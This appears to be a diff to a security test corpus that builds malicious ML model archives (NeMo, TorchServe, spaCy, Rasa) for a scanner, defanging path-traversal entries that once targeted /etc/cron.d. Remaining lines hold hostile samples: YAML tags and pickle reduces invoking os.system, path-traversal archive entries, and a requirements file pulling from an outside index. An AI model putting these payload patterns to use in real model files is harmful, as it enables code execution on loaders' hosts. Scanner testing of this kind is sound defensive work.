@@ -126,7 +126,7 @@ def hydra() -> Shelf:
     add("nemo-root-target", nemo({"./model_config.yaml": b"target: os.system\n"}), "NeMo: the model's own class is os.system", name="model.nemo", source="cve-2025-23304")
     add("nemo-weights", nemo({"./model_config.yaml": plain, "./model_weights.ckpt": CHECKPOINT}), "NeMo: a bad checkpoint", name="model.nemo")
     add("nemo-yaml-tag", nemo({"./model_config.yaml": b"x: !!python/object/apply:os.system [echo waag-inert]\n"}), "NeMo: a tag in the configuration", name="model.nemo")
-    add("nemo-traversal", nemo({"../../../etc/cron.d/waag": b"x\n", "./model_config.yaml": plain}), "NeMo: a file that leaves", name="model.nemo")
+    add("nemo-traversal", nemo({"../../../waag-inert": b"x\n", "./model_config.yaml": plain}), "NeMo: a file that leaves", name="model.nemo")
     add("nemo-pickle", nemo({"./model_config.yaml": plain, "./tokenizer.pkl": PICKLE}), "NeMo: a pickle among the artefacts", name="model.nemo")
     add("nemo-script", nemo({"./model_config.yaml": plain, "./setup.sh": b"#!/bin/sh\necho waag-inert\n"}), "NeMo: a script among the artefacts", "not-allow", name="model.nemo")
     add("nemo-named-tar", nemo({"model_config.yaml": config}), "NeMo: called .tar", name="model.tar", source="cve-2025-23304")
@@ -174,7 +174,7 @@ def serving() -> Shelf:
     add("mar-model", mar({"handler.py": HANDLER, "model.pt": CHECKPOINT}), "a bad checkpoint")
     add("mar-extra", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "util.pkl": PICKLE}), "a pickle beside the checkpoint")
     add("mar-requirements", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "requirements.txt": b"--index-url http://example.invalid/\nwaag-evil\n"}, requirementsFile="requirements.txt"), "requirements from elsewhere", "not-allow")
-    add("mar-traversal", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "../../etc/cron.d/waag": b"x\n"}), "a file that leaves")
+    add("mar-traversal", mar({"handler.py": HANDLER, "model.pt": torch_zip(), "../../waag-inert": b"x\n"}), "a file that leaves")
     add("mar-handler-path", mar({"model.pt": torch_zip()}, handler="../../../tmp/evil.py"), "a handler above the archive", "not-allow")
     add("mar-handler-missing", mar({"model.pt": torch_zip()}, handler="missing.py"), "a handler that is not there", "not-allow")
     add("mar-tgz", gz(tar_bytes([entry("MAR-INF/MANIFEST.json", manifest()), entry("handler.py", PYTHON), entry("model.pt", torch_zip())])), "an archive as tar.gz", name="model.mar")
@@ -283,7 +283,7 @@ def frameworks() -> Shelf:
     add("spacy-component-pickle", spacy(textcat__model=PICKLE), "spaCy: a pickle as a component's model")
     add("rasa-pickle", gz(tar_bytes([entry("metadata.json", b'{"rasa_open_source_version":"3.6.0"}'), entry("components/train_CountVectorsFeaturizer1/vocabularies.pkl", PICKLE)])), "Rasa: a pickle in the model", name="model.tar.gz")
     add("rasa-custom", gz(tar_bytes([entry("metadata.json", js({"rasa_open_source_version": "3.6.0", "train_schema": {"nodes": {"x": {"uses": "os.system", "fn": "load"}}}})), entry("components/x.txt", b"x")])), "Rasa: a component that is os.system", "not-allow", "model.tar.gz")
-    add("rasa-traversal", gz(tar_bytes([entry("metadata.json", b'{"rasa_open_source_version":"3.6.0"}'), entry("../../../etc/cron.d/waag", b"x")])), "Rasa: a file that leaves", name="model.tar.gz")
+    add("rasa-traversal", gz(tar_bytes([entry("metadata.json", b'{"rasa_open_source_version":"3.6.0"}'), entry("../../../waag-inert", b"x")])), "Rasa: a file that leaves", name="model.tar.gz")
 
     reduce = {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo waag-inert"]}]}
     for id, value in {
